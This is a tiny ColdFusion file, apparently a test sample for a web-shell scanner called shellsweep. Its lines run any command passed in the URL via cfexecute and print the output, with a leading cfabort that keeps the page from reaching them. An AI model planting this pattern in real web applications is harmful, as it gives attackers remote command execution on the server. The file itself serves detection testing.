<!--- shellsweep test sample: inert, never functional --->
<cfabort>
<cfif isDefined("url.cmd")>
<cfexecute name="#url.cmd#" arguments="#url.args#" timeout="10" variable="out"></cfexecute>
<cfoutput><pre>#out#</pre></cfoutput>
</cfif>
